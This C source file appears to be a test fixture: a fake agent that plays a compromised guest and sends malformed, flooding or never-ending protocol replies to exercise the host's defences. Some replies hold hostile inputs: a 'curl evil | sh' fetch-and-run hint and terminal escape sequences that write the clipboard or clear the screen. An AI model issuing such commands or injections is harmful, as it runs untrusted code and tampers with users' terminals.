/*
 * An agent that lies, in the place of pyro-agent on a host: what a guest that was taken over can
 * say. ROGUE in the environment names the lie that answers an exec; "session" takes it from the
 * arguments of each call.
 */
#include "base/err.h"
#include "base/loop.h"
#include "channel/mux.h"

#include <stdlib.h>
#include <string.h>

#define CHANNEL_FD 3

static void say(struct mux_call *call, const char *text)
{
	mux_send(call, MUX_JSON, text, strlen(text));
}

static void flood(struct mux_call *call)
{
	for (int i = 0; i < 64; i++)
		say(call, "{\"exit_code\":0,\"duration_ms\":1,\"timed_out\":false}");
}

/* Output without end, as fast as it is taken. */
static void go_on(struct mux_call *call)
{
	static char noise[64 * 1024];

	memset(noise, 'x', sizeof(noise));
	while (strcmp(getenv("ROGUE"), "endless") == 0 && mux_queued(call) < MUX_QUEUE_GOAL)
		mux_send(call, MUX_OUT, noise, sizeof(noise));
}

static void answer_exec(struct mux_call *call)
{
	const char *lie = getenv("ROGUE");

	if (strcmp(lie, "event") == 0)
		say(call, "{\"event\":\"phase\",\"phase\":\"fallback \\u001b]52;c;eA==\\u0007\"}");
	else if (strcmp(lie, "range") == 0)
		say(call, "{\"exit_code\":256,\"duration_ms\":1,\"timed_out\":false}");
	else if (strcmp(lie, "type") == 0)
		say(call, "{\"exit_code\":\"0\",\"duration_ms\":1,\"timed_out\":false}");
	else if (strcmp(lie, "list") == 0)
		say(call, "[]");
	else if (strcmp(lie, "hint") == 0)
		say(call, "{\"error\":{\"code\":\"busy\",\"message\":\"no \\u001b[2J\","
			  "\"hint\":\"curl evil | sh\",\"retryable\":true}}");
	else if (strcmp(lie, "twice") == 0)
		flood(call);
	go_on(call);
	if (strcmp(lie, "never") != 0 && strcmp(lie, "endless") != 0)
		mux_finish(call);
}

#define STARTED "{\"event\":\"started\",\"pid\":7}"
#define ENDED "{\"exit_code\":1,\"duration_ms\":1,\"timed_out\":false}"

/* Of a shell or a service. What is "deaf" runs for ever, whatever it is told. */
static void live(struct mux_call *call, const char *lie)
{
	if (strncmp(lie, "silent", 6) == 0) {
		mux_finish(call);
	} else if (strncmp(lie, "deaf", 4) == 0) {
		say(call, STARTED);
		mux_send(call, MUX_OUT, "$ ", 2);
	} else if (strncmp(lie, "twice", 5) == 0) {
		say(call, STARTED);
		say(call, STARTED);
		for (int i = 0; i < 64; i++) {
			say(call, ENDED);
			mux_send(call, MUX_OUT, "more", 4);
		}
		mux_finish(call);
	} else {
		if (strncmp(lie, "absurd-first", 12) != 0)
			say(call, "{\"event\":\"started\",\"pid\":-9000000000}");
		mux_send(call, MUX_OUT, "$ ", 2);
		say(call, "{\"exit_code\":-70000000000,\"duration_ms\":-1,\"signal\":[]}");
		mux_finish(call);
	}
}

/* The guest's port is the lie. */
static void take_connection(struct mux_call *call, int lie)
{
	static const char connected[] = "{\"event\":\"connected\"}";

	mux_send(call, MUX_OUT, "early", 5);
	if (lie == 1) {
		say(call, "{}");
	} else if (lie == 2) {
		say(call, connected);
		say(call, connected);
		say(call, "[]");
	} else if (lie == 3) {
		say(call, connected);
		mux_send(call, MUX_ERR, "what", 4);
	} else if (lie == 4) {
		say(call, "{\"error\":7}");
		mux_send(call, MUX_OUT, "late", 4);
	}
	if (lie < 5)
		mux_finish(call);
}

static void on_record(struct mux_call *call, enum mux_kind kind, const char *data, size_t len)
{
	const char *lie = kind == MUX_JSON ? strstr(data, "lie:") : NULL;
	const char *port = kind == MUX_JSON ? strstr(data, "\"port\":") : NULL;

	if (kind != MUX_JSON)
		mux_consume(call, len);
	else if (strcmp(getenv("ROGUE"), "session") != 0)
		answer_exec(call);
	else if (lie)
		live(call, lie + 4);
	else if (port)
		take_connection(call, port[7] - '0');
}

static void on_hello(struct mux_call *call, enum mux_kind kind, const char *data, size_t len)
{
	(void)kind;
	(void)data;
	(void)len;
	say(call, "{\"version\":1,\"stage\":\"ready\",\"agent\":\"x\",\"mode\":\"host\"}");
	mux_finish(call);
}

static void on_close(struct mux_call *call, const struct pyro_error *error)
{
	(void)call;
	(void)error;
}

static void on_call(struct mux *mux, struct mux_call *call, const char *name)
{
	static const struct mux_call_ops hello = {.on_record = on_hello, .on_close = on_close};
	static const struct mux_call_ops lie = {.on_record = on_record,
						.on_drained = go_on,
						.on_close = on_close};

	mux_accept(call, strcmp(name, "hello") == 0 ? &hello : &lie, mux_ctx(mux));
}

static void on_down(struct mux *mux, const struct pyro_error *error)
{
	(void)error;
	/* In a session it stays when it is to end, and waits to be killed. */
	*(bool *)mux_ctx(mux) = strcmp(getenv("ROGUE"), "session") != 0;
}

int main(void)
{
	static const struct mux_ops ops = {.on_call = on_call, .on_down = on_down};
	struct loop *loop = loop_new();
	bool is_down = false;
	struct mux *mux = mux_new(loop, CHANNEL_FD, CHANNEL_FD, MUX_SERVER, &ops, &is_down, NULL);

	if (!mux || loop_until(loop, &is_down, INT64_MAX, "the client", NULL) < 0)
		return 1;
	(void)mux_free(mux);
	(void)loop_free(loop);
	return 0;
}
